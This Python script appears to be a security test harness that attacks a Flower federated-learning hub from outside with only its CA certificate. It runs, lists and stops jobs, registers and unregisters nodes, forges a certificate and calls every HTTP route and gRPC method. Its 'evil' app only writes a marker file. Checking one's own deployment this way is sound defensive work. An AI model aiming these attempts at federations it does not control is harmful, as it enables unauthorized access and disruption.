r"""What somebody tries who reaches the ports of a federation and has the hub's `ca.crt`.

    python outside.py --ca ca.crt --host 10.0.0.1 --ports 8000 --marker FILE --nodes 17 --runs 18

Every attempt is one of Flower's own commands, a stock node, or a raw call of an interface of
Flower's by HTTP or gRPC. The answer is JSON: what was tried, and what of it came through. It
imports nothing of the package: in a network namespace of its own it has the network and the
certificate, and nothing else.
"""

from __future__ import annotations

import argparse
import contextlib
import datetime
import importlib
import json
import os
import pkgutil
import signal
import socket
import ssl
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import grpc
import httpx
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives import serialization as forms
from cryptography.hazmat.primitives.asymmetric import ec

PROGRAMS = Path(sys.executable).parent
SILENT = (grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.DEADLINE_EXCEEDED)
PROJECT = """
[project]
name = "evil"
version = "1.0.0"
description = "Writes a file wherever it is run"
license = "MIT"
dependencies = []

[tool.flwr.app]
publisher = "evil"

[tool.flwr.app.components]
serverapp = "evil:server"
clientapp = "evil:client"

[tool.flwr.app.config]
marker = ""
seconds = 60.0
"""
APP = '''
import json
import time
from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp

server = ServerApp()
client = ClientApp()
KINDS = ("query.evil", "query.respond", "query", "train", "evaluate")


def mark(context, where):
    with open(context.run_config["marker"], "a") as file:
        file.write(where + "\\n")


@server.main()
def main(grid, context):
    """Have every node run the client's part, whatever the message is called."""
    mark(context, "hub")
    end = time.monotonic() + context.run_config["seconds"]
    while not (nodes := list(grid.get_node_ids())) and time.monotonic() < end:
        time.sleep(0.5)
    content = RecordDict({"request": ConfigRecord({"body": b"x", "seconds": 5.0, "defer": False})})
    sent = [Message(content, node, kind, ttl=60.0) for node in nodes for kind in KINDS]
    waiting = set(grid.push_messages(sent))
    while waiting and time.monotonic() < end:
        for reply in grid.pull_messages(list(waiting)):
            waiting.discard(reply.metadata.reply_to_message_id)
            with open(context.run_config["marker"] + ".replies", "a") as file:
                words = reply.error.reason if reply.has_error() else repr(dict(reply.content))
                file.write(json.dumps([reply.metadata.message_type, words]) + "\\n")
        time.sleep(0.5)


@client.query("evil")
@client.query("respond")
@client.query()
@client.train()
@client.evaluate()
def run(message, context):
    mark(context, "node")
    return Message(RecordDict({"reply": ConfigRecord({"stolen": "all"})}), reply_to=message)
'''


def write_app(folder: Path) -> Path:
    """An app that leaves a mark wherever a part of it is run."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "pyproject.toml").write_text(PROJECT)
    (folder / "evil.py").write_text(APP)
    return folder


def flwr_environment(home: Path, address: str, ca: Path) -> dict[str, str]:
    """Of Flower's command line, with a connection to an address."""
    home.mkdir(exist_ok=True)
    (home / "config.toml").write_text(
        f'[superlink]\ndefault = "it"\n\n[superlink.it]\naddress = "{address}"\n'
        f"root-certificates = {json.dumps(str(ca))}\n"
    )
    return {
        **os.environ,
        "NO_COLOR": "1",
        "FLWR_HOME": str(home),
        "FLWR_TELEMETRY_ENABLED": "0",
        "FLWR_DISABLE_UPDATE_CHECK": "1",
        "FLWR_DISABLE_RUNTIME_DEPENDENCY_INSTALLATION": "1",
        "PATH": f"{PROGRAMS}{os.pathsep}{os.environ.get('PATH', '')}",
    }


def flwr(environment: dict[str, str], *words: str) -> tuple[bool, str]:
    """Whether a command of Flower's has had success, and what it said."""
    try:
        done = subprocess.run(
            [str(PROGRAMS / "flwr"), *words, "--format", "json"],
            env=environment,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
    except subprocess.TimeoutExpired:
        return False, "timeout"
    said = done.stdout + done.stderr
    with contextlib.suppress(json.JSONDecodeError):
        return bool(json.loads(done.stdout[max(done.stdout.find("{"), 0) :])["success"]), said
    return False, said


class Outside:
    """All attempts on one port."""

    def __init__(self, host: str, port: int, ca: Path, folder: Path) -> None:
        self.address = f"{host}:{port}"
        self.ca, self.folder = ca, folder
        self.tried: list[str] = []
        self.through: list[str] = []
        self.environment = flwr_environment(folder / "flwr", self.address, ca)
        self.key, self.certificate, self.public = _identity(folder)

    def note(self, what: str, through: bool) -> None:
        self.tried.append(what)
        if through:
            self.through.append(what)

    def commands(self, marker: Path, nodes: list[str], runs: list[str]) -> None:
        """Flower's command line: run an app, list, stop, register and unregister."""
        app = write_app(self.folder / "app")
        pairs = f"marker={json.dumps(str(marker))} seconds=20.0"
        words = [
            ("run", str(app), "it", "-c", pairs),
            ("list", "it"),
            ("supernode", "list", "it"),
            ("supernode", "register", str(self.public), "it"),
            *(("supernode", "unregister", node, "it") for node in nodes),
            *(("stop", run, "it") for run in runs),
        ]
        for each in words:
            self.note(f"flwr {' '.join(each[:2])}", flwr(self.environment, *each)[0])

    def node(self, seconds: float) -> None:
        """A stock node: with a key of its own, and as one that registers itself."""
        for extra in (["--auth-supernode-private-key", str(self.folder / "openssh")], []):
            log = self.folder / "node.log"
            with log.open("w") as file:
                process = subprocess.Popen(
                    [
                        str(PROGRAMS / "flower-supernode"),
                        *("--superlink", self.address, "--root-certificates", str(self.ca)),
                        *("--host", "127.0.0.1", "--port", str(_free())),
                        *("--max-retries", "1", *extra),
                    ],
                    env=self.environment,
                    stdout=file,
                    stderr=file,
                    start_new_session=True,
                )
                with contextlib.suppress(subprocess.TimeoutExpired):
                    process.wait(seconds)
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(process.pid, signal.SIGKILL)
                process.wait()
            self.note(f"flower-supernode {' '.join(extra[:1])}", "SuperNode ID" in log.read_text())

    def http(self) -> None:
        """Every route of Flower's server and node, over every kind of connection."""
        for name, base, verify in self._kinds():
            with httpx.Client(verify=verify, timeout=5.0, trust_env=False) as client:
                for method, path in _routes():
                    try:
                        answer = client.request(
                            method,
                            f"{base}://{self.address}{path}",
                            content=b"",
                            headers={"content-type": "application/x-protobuf"},
                        )
                        self.note(f"{name} {method} {path}: {answer.status_code}", True)
                    except httpx.HTTPError:
                        self.note(f"{name} {method} {path}", False)

    def _kinds(self) -> list[tuple[str, str, Any]]:
        plain = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        plain.load_verify_locations(cafile=str(self.ca))
        known = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        known.load_verify_locations(cafile=str(self.ca))
        known.load_cert_chain(self.certificate, self.key)
        old = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        old.load_verify_locations(cafile=str(self.ca))
        old.maximum_version = ssl.TLSVersion.TLSv1_2
        return [
            ("http", "http", True),
            ("https", "https", plain),
            ("https with a certificate of one's own", "https", known),
            ("https of 1.2", "https", old),
        ]

    def rpc(self) -> None:
        """Every method of Flower's gRPC services."""
        credentials = {
            "TLS": grpc.ssl_channel_credentials(self.ca.read_bytes()),
            "TLS with a certificate of one's own": grpc.ssl_channel_credentials(
                self.ca.read_bytes(), self.key.read_bytes(), self.certificate.read_bytes()
            ),
            "plain": None,
        }
        for name, held in credentials.items():
            options = [("grpc.ssl_target_name_override", "localhost")]
            channel = (
                grpc.insecure_channel(self.address)
                if held is None
                else grpc.secure_channel(self.address, held, options)
            )
            with channel:
                for method in _methods():
                    try:
                        channel.unary_unary(method)(b"", timeout=3.0)
                        self.note(f"gRPC over {name} {method}", True)
                    except grpc.RpcError as error:
                        code = error.code()  # type: ignore[attr-defined]
                        # Of an answer that is no gRPC; `http` has looked at those.
                        other = "http2" in str(error) or "HTTP status" in str(error)
                        self.note(
                            f"gRPC over {name} {method}: {code}", code not in SILENT and not other
                        )


def _free() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


def _identity(folder: Path) -> tuple[Path, Path, Path]:
    """A key of one's own, and a certificate that says that it is a site's and an authority's."""
    key = ec.generate_private_key(ec.SECP384R1())
    now = datetime.datetime.now(datetime.UTC)
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "botorch-fed hub")])
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=9))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA384())
    )
    private = (forms.Encoding.PEM, forms.PrivateFormat.PKCS8, forms.NoEncryption())
    ssh = (forms.Encoding.PEM, forms.PrivateFormat.OpenSSH, forms.NoEncryption())
    public = (forms.Encoding.OpenSSH, forms.PublicFormat.OpenSSH)
    (folder / "key").write_bytes(key.private_bytes(*private))
    (folder / "openssh").write_bytes(key.private_bytes(*ssh))
    (folder / "certificate").write_bytes(made.public_bytes(forms.Encoding.PEM))
    (folder / "public").write_bytes(key.public_key().public_bytes(*public) + b"\n")
    return folder / "key", folder / "certificate", folder / "public"


def _routes() -> list[tuple[str, str]]:
    from fastapi.routing import iter_route_contexts
    from flwr.superlink.main import create_app

    found = {("GET", path) for path in ("/", "/docs", "/openapi.json", "/health")}
    for context in iter_route_contexts(create_app().routes):
        route: Any = context.route
        found |= {(method, route.path) for method in getattr(route, "methods", None) or ()}
    return sorted(found)


def _methods() -> list[str]:
    import flwr.proto

    found = ["/grpc.health.v1.Health/Check"]
    for module in pkgutil.iter_modules(flwr.proto.__path__):
        if module.name.endswith("_pb2"):
            described = importlib.import_module(f"flwr.proto.{module.name}").DESCRIPTOR
            for service in described.services_by_name.values():
                found += [f"/{service.full_name}/{method.name}" for method in service.methods]
    return sorted(found)


def main() -> None:
    """Try everything on every port, and say what came through."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--ca", type=Path, required=True)
    parser.add_argument("--host", required=True)
    parser.add_argument("--ports", type=int, nargs="+", required=True)
    parser.add_argument("--marker", type=Path, required=True)
    parser.add_argument("--nodes", nargs="*", default=[])
    parser.add_argument("--runs", nargs="*", default=[])
    parser.add_argument("--seconds", type=float, default=15.0)
    given = parser.parse_args()
    tried: list[str] = []
    through: list[str] = []
    for port in given.ports:
        with tempfile.TemporaryDirectory() as folder:
            outside = Outside(given.host, port, given.ca.resolve(), Path(folder))
            outside.http()
            outside.rpc()
            outside.node(given.seconds)
            outside.commands(given.marker, given.nodes, given.runs)
            tried += [f"{port}: {each}" for each in outside.tried]
            through += [f"{port}: {each}" for each in outside.through]
    json.dump({"tried": tried, "through": through}, sys.stdout)


if __name__ == "__main__":
    main()
